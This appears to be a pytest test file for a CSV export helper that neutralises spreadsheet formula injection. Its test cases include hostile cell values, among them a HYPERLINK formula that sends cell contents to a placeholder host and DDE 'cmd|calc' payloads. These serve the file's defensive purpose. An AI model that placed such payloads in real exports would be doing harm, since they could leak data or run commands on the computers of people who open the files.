"""Formula injection: every text cell a spreadsheet would evaluate is written as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from wms_tui.adapters.csv_safety import neutralise, safe_writer


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x.test/?"&A1,"Click")', '\'=HYPERLINK("http://x.test/?"&A1,"Click")'),
        ("+46 70 123 45 67", "'+46 70 123 45 67"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "'-3"),
        # Only the first character counts: these are plain text.
        ("Åsa Öberg", "Åsa Öberg"),
        ("김지훈", "김지훈"),
        ("A=1", "A=1"),
        (" =1", " =1"),
        ("", ""),
        ("'already", "'already"),
    ],
)
def test_text_cells(cell: str, written: str) -> None:
    assert neutralise(cell) == written


@pytest.mark.parametrize("value", [-3, -1.5, Decimal("-0.250"), 0, None])
def test_numbers_are_data_not_formulas(value: object) -> None:
    assert neutralise(value) is value


def test_safe_writer_round_trips_through_the_csv_module() -> None:
    out = io.StringIO()
    w = safe_writer(out)
    w.writerow(["name", "qty"])
    w.writerows([["=cmd|'/C calc'!A0", -2], ['Märta, "Sjöberg"', 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "qty"], ["'=cmd|'/C calc'!A0", "-2"], ['Märta, "Sjöberg"', "3"]]
